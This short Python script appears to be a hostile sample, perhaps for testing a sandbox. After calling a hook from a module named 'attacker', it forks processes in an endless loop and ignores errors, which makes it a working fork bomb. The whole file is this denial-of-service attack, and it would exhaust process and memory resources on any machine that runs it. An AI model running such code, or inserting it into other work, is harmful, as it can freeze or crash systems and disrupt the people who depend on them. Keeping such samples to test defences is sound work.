"""Fork without end, in every process."""

import os

from attacker import tried

tried()
while True:
    try:
        os.fork()
    except OSError:
        continue
